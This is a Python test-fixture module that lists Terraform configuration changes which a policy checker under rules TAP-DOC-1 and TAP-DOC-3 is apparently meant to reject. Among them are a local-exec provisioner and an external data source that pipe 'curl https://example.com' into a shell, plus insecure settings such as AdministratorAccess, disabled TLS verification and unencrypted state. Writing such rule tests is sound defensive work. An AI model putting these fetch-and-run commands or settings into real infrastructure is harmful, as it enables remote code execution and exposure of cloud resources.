"""TAP-DOC-1 and TAP-DOC-3: blocks and meta-arguments that no rule can check."""

from __future__ import annotations

from typing import Any

from lib.aspects.provider.projection import VERSION

from .mutation import (
    ACCESS,
    BUCKET,
    DOCUMENT,
    ENCRYPTION,
    FUNCTION,
    QUEUE,
    TABLE,
    TOKEN,
    VERSIONING,
    Document,
    Mutation,
    body_of,
    change,
    id_of,
    put,
)


def block(name: str, content: Any, says: str = "") -> Mutation:
    """A block at the top of the document."""
    return change("TAP-DOC-1", f"a block {name} {says}".rstrip(), lambda document: document.update({name: content}))


def data(kind: str, **arguments: Any) -> Mutation:
    """A data source."""
    return change("TAP-DOC-1", f"data {kind}", lambda document: document["data"].update({kind: {"a": arguments}}))


def provider(argument: str, value: Any) -> Mutation:
    """An argument of the provider."""
    return change(
        "TAP-DOC-1",
        f"the provider's {argument}",
        lambda document: document["provider"]["aws"][0].update({argument: value}),
    )


def backend(argument: str, value: Any) -> Mutation:
    """An argument of the backend; None takes it away."""

    def apply(document: Document) -> None:
        arguments = document["terraform"]["backend"]["s3"]
        arguments.update({argument: value})
        if value is None:
            del arguments[argument]

    return change("TAP-DOC-1", f"the backend's {argument} {value}", apply)


def terraform(says: str, **content: Any) -> Mutation:
    """Something in the block terraform."""
    return change("TAP-DOC-1", f"terraform {says}", lambda document: document["terraform"].update(content))


def imported(says: str, **other: Any) -> Mutation:
    """An import that is not one of a resource by its own name."""

    def apply(document: Document) -> None:
        to = f"{TABLE}.{id_of(document, TABLE)}"
        document["import"] = [{"to": to, "id": body_of(document, TABLE)["name"], **other}]

    return change("TAP-DOC-1", f"an import {says}", apply)


def output(**content: Any) -> Mutation:
    """An output with more than a value, a description and the word sensitive."""
    return change(
        "TAP-DOC-1",
        f"an output with {next(iter(content))}",
        lambda document: document["output"]["kms_key_arn"].update(content),
    )


AWS = {"source": "hashicorp/aws", "version": VERSION}
CONDITION = {"condition": "${true}", "error_message": "never"}
RUN = {"local-exec": {"command": "curl https://example.com | sh"}}
SETTINGS = (ENCRYPTION, VERSIONING, ACCESS, "aws_s3_bucket_policy", "aws_s3_bucket_ownership_controls")

VIOLATIONS = [
    block("variable", {"unknown": {"default": "*"}}),
    block("locals", {"everything": "*"}),
    block("module", {"far": {"source": "git::https://example.com/module"}}),
    block("check", {"never": {"assert": [CONDITION]}}),
    block("ephemeral", {"aws_secretsmanager_secret_version": {"a": {"secret_id": "b"}}}),
    block("removed", [{"from": f"{TABLE}.ledger", "lifecycle": {"destroy": False}}]),
    block("removed", {"from": f"{BUCKET}.records"}, "as one object"),
    block("action", {"aws_lambda_invoke": {"a": {"config": {"function_name": "b"}}}}),
    block("no_such_block", {}),
    data("external", program=["sh", "-c", "curl https://example.com"]),
    data("http", url="https://example.com/policy.json"),
    data("aws_ssm_parameter", name="card"),
    data("aws_iam_policy", arn="arn:aws:iam::aws:policy/AdministratorAccess"),
    data("aws_lambda_invocation", function_name="lambda-processor-dev", input="{}"),
    data("terraform_remote_state", backend="s3", config={"bucket": "others"}),
    provider("endpoints", [{"dynamodb": "https://dynamodb.example.com"}]),
    provider("assume_role", [{"role_arn": "arn:aws:iam::111122223333:role/role-others-dev"}]),
    provider("access_key", "AKIAIOSFODNN7EXAMPLE"),
    provider("profile", "others"),
    provider("shared_credentials_files", ["credentials"]),
    provider("http_proxy", "http://proxy.example.com"),
    provider("custom_ca_bundle", "ca.pem"),
    provider("insecure", True),
    provider("skip_credentials_validation", True),
    provider("ignore_tags", [{"keys": ["Owner"]}]),
    change("TAP-DOC-1", "another provider", lambda document: document["provider"].update(external=[{}])),
    backend("encrypt", False),
    backend("encrypt", None),
    backend("use_lockfile", False),
    backend("use_lockfile", None),
    backend("role_arn", "arn:aws:iam::111122223333:role/role-others-dev"),
    backend("endpoints", {"s3": "https://s3.example.com"}),
    backend("acl", "public-read"),
    backend("workspace_key_prefix", "others"),
    terraform("backend of another kind", backend={"http": {"address": "https://state.example.com"}}),
    terraform("backend on the disk", backend={"local": {}}),
    terraform("in the cloud", cloud={"organization": "others"}),
    terraform("with a provider of somebody else's", required_providers={"aws": {**AWS, "source": "example/aws"}}),
    terraform("with the provider of another host", required_providers={"aws": {**AWS, "source": "a.example/b/aws"}}),
    terraform("with any provider version", required_providers={"aws": {**AWS, "version": ">= 5.0"}}),
    terraform("with the next provider version", required_providers={"aws": {**AWS, "version": f"{VERSION}1"}}),
    terraform("with one provider more", required_providers={"aws": AWS, "external": {"source": "hashicorp/external"}}),
    terraform("with provider_meta", provider_meta={"aws": {"user_agent": ["a"]}}),
    output(precondition=[CONDITION]),
    output(ephemeral=True),
    imported("of another's name", id="dynamodb-others-dev"),
    imported("by an expression", id="${aws_kms_alias.ALIAS.name}"),
    imported("for each", for_each={"a": "b"}),
    imported("by another provider", provider="aws.other"),
    change(
        "TAP-DOC-1",
        "moved with more than from and to",
        lambda document: document.update(moved=[{"from": f"{TABLE}.a", "to": f"{TABLE}.b", "for_each": {}}]),
    ),
    put("TAP-DOC-1", FUNCTION, "architectures", [["arm64"]], says="in two lists"),
    # Meta-arguments
    *(
        put("TAP-DOC-3", kind, "count", 0, bucket)
        for kind in SETTINGS
        for bucket in ("archive/records", "archive/access_logs")
    ),
    put("TAP-DOC-3", TABLE, "count", 1),
    put("TAP-DOC-3", TABLE, "count", TOKEN),
    put("TAP-DOC-3", ENCRYPTION, "for_each", {}, "archive/records"),
    put("TAP-DOC-3", VERSIONING, "for_each", TOKEN, "archive/records"),
    put("TAP-DOC-3", DOCUMENT, "count", 0, "archive/records"),
    put("TAP-DOC-3", DOCUMENT, "for_each", {}, "processor/policy_document"),
    put("TAP-DOC-3", TABLE, "dynamic", {"ttl": {"for_each": [], "content": {}}}),
    put("TAP-DOC-3", DOCUMENT, "dynamic", {"statement": {"for_each": [], "content": {}}}, "alerting"),
    put("TAP-DOC-3", TABLE, "provisioner", RUN),
    put("TAP-DOC-3", TABLE, "provisioner", [{"local-exec": {"command": "true", "when": "destroy"}}], says="at the end"),
    put("TAP-DOC-3", FUNCTION, "connection", {"host": "example.com"}),
    put("TAP-DOC-3", QUEUE, "provider", "aws.other"),
    put("TAP-DOC-3", QUEUE, "provider", "external"),
    put("TAP-DOC-3", TABLE, "lifecycle", {"ignore_changes": ["server_side_encryption"]}),
    put("TAP-DOC-3", TABLE, "lifecycle", {"ignore_changes": "all"}),
    put("TAP-DOC-3", TABLE, "lifecycle", [{"create_before_destroy": True}, {"ignore_changes": ["tags"]}]),
    put("TAP-DOC-3", BUCKET, "lifecycle", {"prevent_destroy": False}),
    put("TAP-DOC-3", QUEUE, "lifecycle", {"replace_triggered_by": [f"{TABLE}.ledger"]}),
    put("TAP-DOC-3", QUEUE, "lifecycle", {"precondition": [CONDITION]}),
    put("TAP-DOC-3", DOCUMENT, "lifecycle", {"postcondition": [CONDITION]}, "archive/records"),
    put("TAP-DOC-3", TABLE, "lifecycle", {"enabled": False}),
    put("TAP-DOC-3", TABLE, "depends_on", ["aws_sqs_queue.nowhere"]),
    put("TAP-DOC-3", TABLE, "depends_on", ["module.far"]),
]
